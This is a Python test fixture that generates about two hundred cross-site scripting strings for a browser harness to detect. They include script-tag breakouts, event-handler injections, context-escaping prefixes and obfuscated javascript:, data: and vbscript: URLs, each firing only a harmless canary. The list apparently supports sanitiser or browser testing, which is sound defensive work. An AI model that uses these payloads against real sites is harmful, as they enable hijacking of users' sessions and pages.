"""Two hundred XSS strings: each has run on some page that treated it as markup.

A string that runs reports ``canary`` as a dialog, on the console or as a global. The browser under test watches all
three.
"""

from __future__ import annotations

from itertools import product

RUN = "console.error('canary'),window.canary=1"

_TAGS = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</template><script>{run}</script>",
    "</pre><script>{run}</script>",
    "--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<sCrIpT>{run}</ScRiPt>",
    "<script\n>{run}</script\n>",
    "<script/x>{run}</script>",
    "<script src=data:text/javascript,{run}></script>",
    "<script type=module>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src=x onerror="{run}">',
    "<img/src=x/onerror={run}>",
    "<IMG SRC=x ONERROR={run}>",
    "<img src=x:x onerror\n=\n{run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>#x\">",
    '<svg><a xlink:href="javascript:{run}"><text y=9>x</text></a></svg>',
    "<svg><set attributeName=onmouseover to={run}>",
    "<math><mtext><script>{run}</script></mtext></math>",
    '<math href="javascript:{run}">x</math>',
    "<body onload={run}>",
    "<body onpageshow={run}>",
    '<iframe srcdoc="<script>parent.{run}</script>">',
    '<iframe src="javascript:{run}">',
    '<object data="javascript:{run}">',
    '<embed src="javascript:{run}">',
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<video src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<marquee onstart={run}>",
    "<style>@import 'javascript:{run}';</style>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>",
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<base href="javascript:{run}//">',
    '<form action="javascript:{run}"><input type=submit autofocus></form>',
    '<button formaction="javascript:{run}" autofocus>x</button>',
    '<a href="javascript:{run}">x</a>',
    '<a href=" &#106;avascript:{run}">x</a>',
    '<a href="java\tscript:{run}">x</a>',
    '<div style="background:url(javascript:{run})">',
    "<div onpointerenter={run} style=position:fixed;inset:0>",
    "<x contenteditable onblur={run} tabindex=1 autofocus>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    "<template><script>{run}</script></template>",
    "<slot onslotchange={run}>",
    "<dialog open oncancel={run}>",
    '<portal src="javascript:{run}">',
    '<isindex action="javascript:{run}" type=image>',
    "<frameset onload={run}>",
    '<table background="javascript:{run}">',
    "<progress onanimationstart={run} style=animation:x>",
)
_BREAKS = ("\"", "'", "`", "\">", "'>", "\"/>", "\" ", "' ", "\n", "&quot;>", "&#39;", "&lt;", "\\\"", "\\'", "\\x3c",
           "\\u003c", "%3C", "{{", "}}", "${{", "*/", "//", "\u2028", "\u2029", "\0", "\ufeff", "\u202e")  # fmt: skip
_AFTER = (" onmouseover={run} x=", " autofocus onfocus={run} x=", "<img src=x onerror={run}>", "-{run}-", ";{run};//")
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "\x01javascript:{run}",
    "java\nscript:{run}",
    "javascript&colon;{run}",
    "javascript:/*--></script>*/{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnk8L3NjcmlwdD4=",
    "vbscript:{run}",
    "feed:javascript:{run}",
    "jar:javascript:{run}!",
    "view-source:javascript:{run}",
)


def _all() -> list[str]:
    broken = [front + back for front, back in product(_BREAKS, _AFTER)]
    texts = [*_TAGS, *_SCHEMES, *broken]
    return list(dict.fromkeys(text.replace("{run}", RUN) for text in texts))


STRINGS: tuple[str, ...] = tuple(_all()[:212])
assert len(STRINGS) >= 200
